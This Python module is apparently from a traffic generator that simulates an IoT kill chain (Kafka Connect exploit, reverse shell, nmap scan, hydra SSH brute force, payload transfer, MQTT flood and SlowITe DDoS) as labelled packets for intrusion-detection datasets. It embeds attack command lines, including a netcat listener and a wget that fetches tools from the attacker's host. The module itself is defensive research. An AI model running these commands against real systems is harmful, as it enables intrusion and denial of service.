"""Kill-chain orchestration and MQTTset-style attack traces.

Every attack frame is sent with its step label as origin and attached to a journal
entry, so entry windows are the exact span of the packets they describe.
"""

from __future__ import annotations

import heapq
import itertools
import json
import math
from dataclasses import dataclass
from importlib import resources

from . import appproto as ap
from . import wire
from .agents import Conv, MqttLink
from .config import FCSIZE_UNITS, MQTTSET_LABELS, AttackConfig, TraceJob
from .engine import Sim, us
from .journal import LABEL_PRIORITY
from .topology import Topology

STEP_LABELS = {
    1: "cve_exploitation",
    2: "reverse_shell",
    3: "scan_ports",
    4: "credentials_bruteforce",
    5: "transfer_payload_to_iot",
    6: "mqttsa_slowite",
}
SCP_RECORD = wire.MSS
TRIGGER_STAGGER_US = 50_000
IDLE_POLL_US = 100_000


class AttackPlanError(ValueError):
    pass


def expand_range(spec: str) -> list[str]:
    """nmap-style octet ranges, e.g. ``192.168.18-20.10-150``."""
    parts = spec.split(".")
    if len(parts) != 4:
        raise ValueError(f"bad target range {spec!r}")
    octets = []
    for p in parts:
        lo, _, hi = p.partition("-")
        try:
            a, b = int(lo), int(hi or lo)
        except ValueError:
            raise ValueError(f"bad target range {spec!r}") from None
        if not 0 <= a <= b <= 255:
            raise ValueError(f"bad octet range {p!r} in {spec!r}")
        octets.append(range(a, b + 1))
    return [".".join(map(str, o)) for o in itertools.product(*octets)]


def round_half_up(x: float) -> int:
    return int(math.floor(x + 0.5))


def load_wordlist(name: str) -> list[str]:
    text = resources.files("iotsynth.data").joinpath(name).read_text()
    return [w for w in text.splitlines() if w and not w.startswith("#")]


@dataclass(frozen=True)
class AttackPlan:
    steps: tuple[int, ...]
    start_us: int
    sleeps_us: tuple[int, ...]
    attacker: str
    pivot: str
    target_broker: str
    scan_targets: tuple[str, ...]
    eligible: tuple[str, ...]
    compromised: tuple[str, ...]
    usernames: tuple[str, ...]
    passwords: tuple[str, ...]
    cfg: AttackConfig
    commands: tuple[tuple[int, str], ...] = ()


def step_commands(cfg: AttackConfig, attacker_ip: str, pivot_ip: str) -> dict[int, str]:
    d = cfg.ddos
    return {
        1: f"curl -X POST -H 'Content-Type: application/json' --data @connector.json "
           f"http://{pivot_ip}:8083/connectors",
        2: f"nc -lvnp 4444 ; wget http://{attacker_ip}:8000/tools.tar.gz",
        3: f"./nmap -Pn -oG ips.txt {' '.join(cfg.scan.target_ranges)} "
           f"--max-rate {cfg.scan.max_rate_pps:g} -p {cfg.scan.port}",
        4: f"hydra/hydra -o success.txt -M ssh_ips.txt ssh -f -L u.txt -P p.txt "
           f"-t {cfg.bruteforce.parallel_tasks}",
        5: f"scp payload.bin <user>@<compromised>:/tmp/  ({cfg.payload_transfer.payload_bytes} bytes)",
        6: f"mqttsa -fc {d.flood_connections} -fcsize {d.flood_message_bytes} "
           f"-sc {d.slow_connections} {d.target_broker_address}",
    }


def plan_attack(cfg: AttackConfig, topo: Topology, rng) -> AttackPlan:
    steps = (6,) if cfg.skip_to_ddos else tuple(cfg.enabled_steps)
    need = set()
    if any(s in (1, 2) for s in steps):
        need.add(cfg.attacker)
    if steps:
        need.add(cfg.pivot)
    for n in sorted(need):
        if n not in topo.by_id:
            raise AttackPlanError(f"attack requires node {n!r}, absent from the topology")
    target = None
    if 6 in steps:
        node = topo.by_ip.get(cfg.ddos.target_broker_address)
        if node is None or node.kind != "mqtt_broker":
            raise AttackPlanError(f"ddos target {cfg.ddos.target_broker_address} is not an MQTT broker")
        target = node.node_id
    scan_targets = []
    for r in cfg.scan.target_ranges:
        scan_targets.extend(a for a in expand_range(r) if a not in scan_targets)
    in_range = set(scan_targets)
    eligible = [s.node_id for s in topo.sensors if s.ipv4 in in_range and s.listens(cfg.scan.port)]
    n = round_half_up(cfg.compromised_fraction * len(eligible))
    picked = set(rng.sample(eligible, n)) if n else set()
    compromised = tuple(s for s in eligible if s in picked)
    users = load_wordlist("usernames.txt")[: cfg.bruteforce.username_dict_size]
    pwds = load_wordlist("passwords.txt")[: cfg.bruteforce.password_dict_size]
    if 4 in steps and tuple(cfg.bruteforce.success_credentials) not in \
            set(itertools.product(users, pwds)):
        raise AttackPlanError("success credentials are not in the truncated dictionaries")
    sleeps = (0,) if cfg.skip_to_ddos else tuple(us(s) for s in cfg.inter_step_sleep_s)
    attacker_ip = topo.by_id[cfg.attacker].ipv4 if cfg.attacker in topo.by_id else "-"
    pivot_ip = topo.by_id[cfg.pivot].ipv4 if cfg.pivot in topo.by_id else "-"
    cmds = step_commands(cfg, attacker_ip, pivot_ip)
    return AttackPlan(steps, us(cfg.start_s), sleeps, cfg.attacker, cfg.pivot, target,
                      tuple(scan_targets), tuple(eligible), compromised, tuple(users),
                      tuple(pwds), cfg, tuple((s, cmds[s]) for s in steps))


# ---------------------------------------------------------------- SSH shapes

def _ssh_handshake(conv: Conv, rng) -> Conv:
    conv.s2c(ap.SSH_SERVER_BANNER).c2s(ap.SSH_CLIENT_BANNER)
    conv.c2s(ap.ssh_record(1024 + rng.randrange(64) * 4, 20, rng))
    conv.s2c(ap.ssh_record(1080, 20, rng))
    conv.c2s(ap.ssh_record(48, 30, rng))
    conv.s2c(ap.ssh_record(564, 31, rng))
    conv.c2s(ap.ssh_record(16, 21, rng))
    conv.c2s(ap.ssh_record(52, 5, rng)).s2c(ap.ssh_record(52, 6, rng))
    return conv


def _ssh_login(conv: Conv, rng, ok: bool, delay_us: int) -> Conv:
    conv.c2s(ap.ssh_record(84 + rng.randrange(8) * 4, 50, rng))
    conv.s2c(ap.ssh_record(36 if ok else 44, 52 if ok else 51, rng), think=delay_us)
    return conv


# ---------------------------------------------------------------- kill-chain steps

def step_cve(sim: Sim, plan: AttackPlan, t: int):
    label = STEP_LABELS[1]
    attacker, pivot = sim.node(plan.attacker), sim.node(plan.pivot)
    rng = sim.rng("attack:cve")
    e_post = sim.journal.add(1, label, [attacker.ipv4], [pivot.ipv4], [8083])
    e_cb = sim.journal.add(1, label, [pivot.ipv4], [attacker.ipv4], [1389])
    body = json.dumps({"name": "mqtt-source-2", "config": {
        "connector.class": "io.confluent.connect.mqtt.MqttSourceConnector",
        "mqtt.server.uri": "tcp://192.168.2.1:1883", "mqtt.topics": "sensors/#",
        "kafka.topic": "iot-sensors", "tasks.max": "1",
        "database.history.producer.security.protocol": "SASL_SSL",
        "database.history.producer.sasl.mechanism": "PLAIN",
        "database.history.producer.sasl.jaas.config": "<jaas-placeholder>",
    }}, sort_keys=True).encode()
    conv = Conv(sim, t, attacker, pivot, 8083, rng, label, e_post).open()
    conv.c2s(ap.http_request("POST", "/connectors", f"{pivot.ipv4}:8083", body))
    reply_at = conv.t + 40_000
    conv.s2c(ap.http_response("201 Created", body), think=40_000)
    end = conv.close(0)
    cb = Conv(sim, reply_at, pivot, attacker, 1389, rng, label, e_cb).open()
    cb.c2s(bytes([0x30, 0x0C, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00]))
    cb.s2c(bytes([0x30, 0x0C, 0x02, 0x01, 0x01, 0x61, 0x07, 0x0A, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00]))
    cb.c2s(rng.randbytes(64))
    cb.s2c(rng.randbytes(900))
    return max(end, cb.close(0))
    yield


def step_reverse_shell(sim: Sim, plan: AttackPlan, t: int):
    label = STEP_LABELS[2]
    attacker, pivot = sim.node(plan.attacker), sim.node(plan.pivot)
    rng = sim.rng("attack:shell")
    e_shell = sim.journal.add(2, label, [pivot.ipv4], [attacker.ipv4], [4444])
    e_get = sim.journal.add(2, label, [pivot.ipv4], [attacker.ipv4], [8000])
    shell = Conv(sim, t, pivot, attacker, 4444, rng, label, e_shell).open()
    shell.s2c(b"id\n", think=800_000, ack=True)
    shell.c2s(b"uid=1000(appuser) gid=1000(appuser) groups=1000(appuser)\n")
    url = f"http://{attacker.ipv4}:8000/tools.tar.gz"
    shell.s2c(f"wget -q {url} -O /tmp/tools.tar.gz\n".encode(), think=1_500_000, ack=True)
    get = Conv(sim, shell.t, pivot, attacker, 8000, rng, label, e_get).open()
    get.c2s(ap.http_request("GET", "/tools.tar.gz", f"{attacker.ipv4}:8000"))
    size = plan.cfg.payload_transfer.tools_bytes
    head = (f"HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.10.12\r\n"
            f"Content-type: application/gzip\r\nContent-Length: {size}\r\n\r\n").encode()
    get.s2c(head + rng.randbytes(size), think=2_000)
    shell.t = get.close(1)
    shell.s2c(b"cd /tmp && tar xzf tools.tar.gz && ls\n", think=1_200_000, ack=True)
    shell.c2s(b"hydra\nnmap\nu.txt\np.txt\n")
    shell.s2c(b"exit\n", think=900_000)
    return shell.close(0)
    yield


def step_scan(sim: Sim, plan: AttackPlan, t: int):
    """SYN scan paced at the configured max rate; returns (end, open hosts) via plan state."""
    label = STEP_LABELS[3]
    cfg = plan.cfg.scan
    pivot = sim.node(plan.pivot)
    rng = sim.rng("attack:scan")
    entry = sim.journal.add(3, label, [pivot.ipv4], list(plan.scan_targets), [cfg.port])
    gap = math.ceil(1_000_000 / cfg.max_rate_pps)
    order = list(plan.scan_targets)
    rng.shuffle(order)
    sport = sim.ephemeral(pivot)
    net = sim.net
    open_hosts = []
    end = t
    for i, ip in enumerate(order):
        ts = t + i * gap
        node = sim.topo.by_ip.get(ip)
        dst_mac = node.mac if node is not None and node.mac else "00:00:00:00:00:00"
        sess = wire.TcpSession(wire.Endpoint(pivot.ipv4, sport, pivot.mac),
                               wire.Endpoint(ip, cfg.port, dst_mac),
                               isn=(rng.getrandbits(32), rng.getrandbits(32)))
        arrive = net.send(ts, pivot, ip, sess.syn(), label, entry)
        end = max(end, arrive)
        if node is None or ip in net.silent or ts >= sim.duration:
            continue
        if node.listens(cfg.port):
            back = net.send(arrive, node, pivot.ipv4, sess.syn_ack(), label, entry)
            net.send(back, pivot, ip, sess.rst(0), label, entry)
            open_hosts.append(node.node_id)
            end = max(end, back + (back - arrive))
        else:
            end = max(end, net.send(arrive, node, pivot.ipv4, sess.refuse(), label, entry))
    sim.scan_open = sorted(open_hosts, key=lambda n: plan.eligible.index(n)
                           if n in plan.eligible else len(plan.eligible))
    return end
    yield


def _bruteforce_target(sim, plan, node, t, rng, entry, succeed: bool):
    """hydra -t N -f against one host; returns (end time, success time or None)."""
    cfg = plan.cfg.bruteforce
    pivot = sim.node(plan.pivot)
    combos = list(itertools.product(plan.usernames, plan.passwords))
    win = tuple(cfg.success_credentials)
    delay = us(cfg.auth_delay_s)
    clocks = [(t + k * 1_000, k) for k in range(cfg.parallel_tasks)]
    heapq.heapify(clocks)
    success_at = None
    end = t
    for combo in combos:
        start, k = heapq.heappop(clocks)
        if success_at is not None and start >= success_at:
            break
        ok = succeed and combo == win
        conv = Conv(sim, start, pivot, node, 22, rng, STEP_LABELS[4], entry).open()
        _ssh_handshake(conv, rng)
        _ssh_login(conv, rng, ok, delay)
        done = conv.close(0)
        end = max(end, done)
        if ok:
            success_at = conv.t if success_at is None else min(success_at, conv.t)
        heapq.heappush(clocks, (done, k))
    return end, success_at


def step_bruteforce(sim: Sim, plan: AttackPlan, t: int):
    label = STEP_LABELS[4]
    cfg = plan.cfg.bruteforce
    pivot = sim.node(plan.pivot)
    rng = sim.rng("attack:bruteforce")
    targets = getattr(sim, "scan_open", None)
    if targets is None:
        targets = list(plan.eligible)
    targets = [n for n in targets if sim.node(n).ipv4 not in sim.net.silent]
    if not targets:
        sim.journal.add(4, label, [pivot.ipv4], [], [22], note="no ssh targets; step empty")
        return t
    entry = sim.journal.add(4, label, [pivot.ipv4], [sim.node(n).ipv4 for n in targets], [22])
    cracked = []
    slots = [(t, k) for k in range(min(cfg.max_parallel_targets, len(targets)))]
    heapq.heapify(slots)
    end = t
    for nid in targets:
        start, k = heapq.heappop(slots)
        done, ok_at = _bruteforce_target(sim, plan, sim.node(nid), start, rng, entry,
                                         nid in plan.compromised)
        if ok_at is not None:
            cracked.append(nid)
        end = max(end, done)
        heapq.heappush(slots, (done, k))
    sim.cracked = cracked
    sim.journal.compromised = [sim.node(n).ipv4 for n in cracked]
    return end
    yield


def _victims(sim: Sim, plan: AttackPlan) -> list[str]:
    cracked = getattr(sim, "cracked", None)
    ids = list(plan.compromised) if cracked is None else cracked
    return [n for n in ids if sim.node(n).ipv4 not in sim.net.silent]


def step_transfer(sim: Sim, plan: AttackPlan, t: int):
    label = STEP_LABELS[5]
    pivot = sim.node(plan.pivot)
    rng = sim.rng("attack:scp")
    victims = _victims(sim, plan)
    if not victims:
        sim.journal.add(5, label, [pivot.ipv4], [], [22], note="no compromised nodes; step empty")
        return t
    entry = sim.journal.add(5, label, [pivot.ipv4], [sim.node(n).ipv4 for n in victims], [22])
    size = plan.cfg.payload_transfer.payload_bytes
    user, pwd = plan.cfg.bruteforce.success_credentials
    per = SCP_RECORD - 6
    for nid in victims:
        conv = Conv(sim, t, pivot, sim.node(nid), 22, rng, label, entry).open()
        _ssh_handshake(conv, rng)
        _ssh_login(conv, rng, True, 50_000)
        conv.c2s(ap.ssh_record(96, 90, rng)).s2c(ap.ssh_record(48, 91, rng))
        blob = b"".join(ap.ssh_record(min(per, size - off) + 6, 94, rng)
                        if size - off >= 10 else ap.ssh_record(16, 94, rng)
                        for off in range(0, size, per))
        conv.bulk(0, blob)
        conv.s2c(ap.ssh_record(32, 94, rng))
        t = conv.close(0, think=20_000) + 200_000
    return t
    yield


def step_ddos(sim: Sim, plan: AttackPlan, t: int):
    label = STEP_LABELS[6]
    pivot = sim.node(plan.pivot)
    rng = sim.rng("attack:trigger")
    victims = _victims(sim, plan)
    broker = sim.brokers[plan.target_broker]
    if not victims:
        sim.journal.add(6, label, [pivot.ipv4], [], [22], note="no compromised nodes; step empty")
        return t
    ips = [sim.node(n).ipv4 for n in victims]
    sim.journal.ddos_participants = ips
    e_trigger = sim.journal.add(6, label, [pivot.ipv4], ips, [22])
    e_flood = sim.journal.add(6, label, ips, [broker.node.ipv4], [broker.port])
    user, _ = plan.cfg.bruteforce.success_credentials
    cmd = dict(plan.commands)[6]
    for i, nid in enumerate(victims):
        st = sim.sensors.get(nid)
        if st is not None:
            st.halted = True
        conv = Conv(sim, t + i * TRIGGER_STAGGER_US, pivot, sim.node(nid), 22, rng, label,
                    e_trigger).open()
        _ssh_handshake(conv, rng)
        _ssh_login(conv, rng, True, 50_000)
        conv.c2s(ap.ssh_record(96, 90, rng)).s2c(ap.ssh_record(48, 91, rng))
        conv.c2s(ap.ssh_record(len(cmd) + 64 - (len(cmd) % 4), 98, rng))
        conv.s2c(ap.ssh_record(32, 94, rng))
        end = conv.close(0, think=30_000)
        sim.engine.spawn(participant_proc(sim, plan, nid, e_flood, end), max(end, sim.engine.now))
    return t
    yield


def participant_proc(sim: Sim, plan: AttackPlan, nid: str, entry, t: int):
    """mqttsa on one compromised node: flooding connections first, then slow connections."""
    st = sim.sensors.get(nid)
    while st is not None and (st.in_cycle or st.busy_until >= t):
        t = max(t + IDLE_POLL_US, st.busy_until + 1)
        yield t
    d = plan.cfg.ddos
    node = sim.node(nid)
    broker = sim.brokers[plan.target_broker]
    rng = sim.rng(f"attack:mqttsa:{nid}")
    fsize = d.flood_message_bytes * FCSIZE_UNITS[d.fcsize_unit]
    eng = sim.engine
    for j in range(d.flood_connections):
        at = t + j * us(d.flood_spacing_s)
        eng.spawn(_flood_conn(sim, node, broker, rng, entry, at, j, fsize), at)
    t = t + d.flood_connections * us(d.flood_spacing_s)
    mean = us(d.slow_spacing_s)
    for j in range(d.slow_connections):
        t += max(1, round(rng.expovariate(1.0) * mean))
        if t >= sim.duration:
            break
        eng.spawn(_slow_conn(sim, node, broker, rng, entry, t, j, d.keep_alive_s), t)


def _attack_connect(link: MqttLink, client_id: str, keep_alive: int, creds=(None, None)):
    """Generator: handshake + CONNECT; returns CONNACK arrival time at the client or None."""
    ok = yield from link.syn(link.t_est)
    if not ok:
        return None
    sess = link.sess
    msg = ap.MqttMessage("CONNECT", client_id=client_id, keep_alive_s=keep_alive,
                         username=creds[0], password=creds[1])
    arrive = link.up(link.t_est, [sess.handshake_ack()] + sess.data(0, link.enc(msg)))
    yield arrive
    c = link.b.submit(arrive)
    if c is None:
        return None
    code = link.b.connack_code(*creds)
    back = link.down(c, sess.data(1, link.enc(ap.MqttMessage("CONNACK", return_code=code))))
    if code:
        link.broker_close(c)
        return None
    return back


def _flood_conn(sim, node, broker, rng, entry, t, j, size):
    link = MqttLink(sim, node, broker, rng, STEP_LABELS[6], entry)
    link.t_est = t
    back = yield from _attack_connect(link, f"mqttsa-flood-{j}", 60)
    if back is None:
        return
    msg = ap.MqttMessage("PUBLISH", topic="mqttsa/flood", payload=rng.randbytes(size) if size else b"",
                         qos=0, retain=True)
    arrive = link.up(back, link.sess.data(0, link.enc(msg)))
    arrive += link.net.tx_us(size)
    yield arrive
    c = broker.submit(arrive)
    if c is not None:
        link.down(c, [link.sess.ack(1)])


def _slow_conn(sim, node, broker, rng, entry, t, j, keep_alive):
    link = MqttLink(sim, node, broker, rng, STEP_LABELS[6], entry)
    link.t_est = t
    yield from _attack_connect(link, f"mqttsa-slow-{j}", keep_alive)


def attack_proc(sim: Sim, plan: AttackPlan):
    funcs = {1: step_cve, 2: step_reverse_shell, 3: step_scan, 4: step_bruteforce,
             5: step_transfer, 6: step_ddos}
    t = plan.start_us
    for i, step in enumerate(plan.steps):
        if i:
            t = max(end, sim.engine.now) + plan.sleeps_us[i - 1]
            if t >= sim.duration:
                sim.journal.notes.append(f"step {step} not started before scenario end")
                return
            yield t
        end = yield from funcs[step](sim, plan, t)


# ---------------------------------------------------------------- MQTTset traces

def mqttset_attack_trace(sim: Sim, job: TraceJob):
    """Generator process for one MQTTset attack trace from client-connect to the first broker."""
    label = MQTTSET_LABELS[job.kind]
    attacker = sim.node("client-connect")
    broker = sim.brokers[sorted(sim.brokers)[0]]
    entry = sim.journal.add(LABEL_PRIORITY[label], label, [attacker.ipv4], [broker.node.ipv4],
                            [broker.port], note=f"mqttset:{job.kind}")
    rng = sim.rng(f"mqttset:{job.kind}")
    a0 = us(job.attack_start_s)
    a1 = us(job.attack_end_s) if job.attack_end_s is not None else sim.duration
    span = max(a1 - a0, 1)
    creds = tuple(sim.scenario.sensor_credentials)
    creds = (creds[0], creds[1].encode()) if broker.auth else (None, None)
    eng = sim.engine
    p = job.param
    if job.kind == "publish_flood":
        n = int(p("connections", 20))
        for j in range(n):
            at = a0 + j * span // n
            eng.spawn(_publish_stream(sim, attacker, broker, rng, entry, at, f"flood-{j}", creds,
                                      int(p("messages", 400)), int(p("payload_bytes", 64)),
                                      us(1.0 / p("rate_per_s", 400)), 0), at)
    elif job.kind == "flood_dos":
        n = int(p("cycles", 6))
        for j in range(n):
            at = a0 + j * span // n
            eng.spawn(_publish_stream(sim, attacker, broker, rng, entry, at, f"malaria-{j}", creds,
                                      int(p("messages", 265)), int(p("payload_bytes", 30700)),
                                      0, 1), at)
    elif job.kind == "slowite":
        t = a0
        for j in range(int(p("connections", 1500))):
            t += max(1, round(rng.expovariate(1.0) * us(p("spacing_s", 0.04))))
            if t >= a1:
                break
            eng.spawn(_slowite_conn(sim, attacker, broker, rng, entry, t, j, creds,
                                    int(p("keep_alive_s", 65535))), t)
    elif job.kind == "malformed":
        gap = us(p("spacing_s", 1.0))
        for j in range(int(p("count", 400))):
            t = a0 + j * gap
            if t >= a1:
                break
            variant = ap.MALFORMED_VARIANTS[j % len(ap.MALFORMED_VARIANTS)]
            eng.spawn(_malformed_conn(sim, attacker, broker, rng, entry, t, variant), t)
    elif job.kind == "auth_bruteforce":
        gap = us(p("spacing_s", 0.5))
        combos = list(itertools.product(load_wordlist("usernames.txt"),
                                        load_wordlist("passwords.txt")))
        for j in range(int(p("count", 600))):
            t = a0 + j * gap
            if t >= a1:
                break
            user, pwd = combos[j % len(combos)]
            eng.spawn(_auth_attempt(sim, attacker, broker, rng, entry, t, j, user, pwd), t)
    return
    yield


def _publish_stream(sim, node, broker, rng, entry, t, cid, creds, count, size, gap, qos):
    """One connection publishing ``count`` messages back to back (or every ``gap`` µs)."""
    link = MqttLink(sim, node, broker, rng, entry.label, entry)
    link.t_est = t
    back = yield from _attack_connect(link, cid, 60, creds)
    if back is None:
        return
    sess = link.sess
    pending = []
    t_send = back
    last = back
    for k in range(count):
        while pending and pending[0][0] <= t_send:
            tc, pid = heapq.heappop(pending)
            raw = link.enc(ap.MqttMessage("PUBACK", packet_id=pid)) if pid else None
            link.down(tc, sess.data(1, raw) if raw else [sess.ack(1)])
        pid = k % 65535 + 1 if qos else 0
        msg = ap.MqttMessage("PUBLISH", topic="malaria/flood", payload=rng.randbytes(size),
                             qos=qos, packet_id=pid)
        raw = link.enc(msg)
        segs = sess.data_segments(0, raw)
        tx = link.net.tx_us(min(len(raw) + 54, wire.MTU + 14))
        for i, (frame, _) in enumerate(segs):
            link.up(t_send + i * tx, [frame])
        arrive = t_send + (len(segs) - 1) * tx + link.d
        last = t_send + (len(segs) - 1) * tx
        yield arrive
        c = broker.submit(arrive)
        if c is not None:
            heapq.heappush(pending, (c, pid))
        t_send = max(last + tx, t_send + gap, sim.engine.now)
    while pending:
        tc, pid = heapq.heappop(pending)
        raw = link.enc(ap.MqttMessage("PUBACK", packet_id=pid)) if pid else None
        link.down(tc, sess.data(1, raw) if raw else [sess.ack(1)])
        last = max(last, tc + link.d)
    link.client_close(max(last, sim.engine.now) + 1_000)


def _slowite_conn(sim, node, broker, rng, entry, t, j, creds, keep_alive):
    link = MqttLink(sim, node, broker, rng, entry.label, entry)
    link.t_est = t
    yield from _attack_connect(link, f"slowite-{j}", keep_alive, creds)


def _malformed_conn(sim, node, broker, rng, entry, t, variant):
    link = MqttLink(sim, node, broker, rng, entry.label, entry)
    ok = yield from link.syn(t)
    if not ok:
        return
    raw = ap.malformed_packet(variant, rng)
    arrive = link.up(link.t_est, [link.sess.handshake_ack()] + link.sess.data(0, raw))
    yield arrive
    c = broker.submit(arrive)
    link.broker_close(c if c is not None else arrive + us(1.0))


def _auth_attempt(sim, node, broker, rng, entry, t, j, user, pwd):
    link = MqttLink(sim, node, broker, rng, entry.label, entry)
    link.t_est = t
    back = yield from _attack_connect(link, f"brute-{j}", 60, (user, pwd.encode()))
    if back is not None:
        link.client_close(max(back, sim.engine.now))


# ---------------------------------------------------------------- install

def install(sim: Sim) -> None:
    sc = sim.scenario
    job = sim.job
    if job.kind:
        t = us(job.attack_start_s)
        if t < sim.duration:
            sim.engine.spawn(mqttset_attack_trace(sim, job), t)
        sim.settings.append(mqttset_command(job, sim))
        return
    if sc.attack is None:
        return
    plan = plan_attack(sc.attack, sim.topo, sim.rng("attack:plan"))
    sim.attack_plan = plan
    sim.journal.compromised = [sim.node(n).ipv4 for n in plan.compromised]
    for step, cmd in plan.commands:
        sim.settings.append(f"step {step} {STEP_LABELS[step]}: {cmd}")
    if plan.steps and plan.start_us < sim.duration:
        sim.engine.spawn(attack_proc(sim, plan), plan.start_us)


def mqttset_command(job: TraceJob, sim: Sim) -> str:
    target = sim.brokers[sorted(sim.brokers)[0]].node.ipv4 if sim.brokers else "-"
    p = job.param
    if job.kind == "flood_dos":
        return (f"{job.name}: malaria publish -P {int(p('processes', 1))} -n {int(p('messages', 265))} "
                f"-H {target} -s {int(p('payload_bytes', 30700))}")
    if job.kind == "publish_flood":
        return (f"{job.name}: publish flood, {int(p('connections', 20))} connections x "
                f"{int(p('messages', 400))} messages of {int(p('payload_bytes', 64))} bytes -> {target}")
    if job.kind == "slowite":
        return (f"{job.name}: SlowITe, {int(p('connections', 1500))} connections keep-alive "
                f"{int(p('keep_alive_s', 65535))} s -> {target}")
    if job.kind == "malformed":
        return f"{job.name}: malformed MQTT packets x {int(p('count', 400))} -> {target}"
    return f"{job.name}: MQTT CONNECT credential guessing x {int(p('count', 600))} -> {target}"
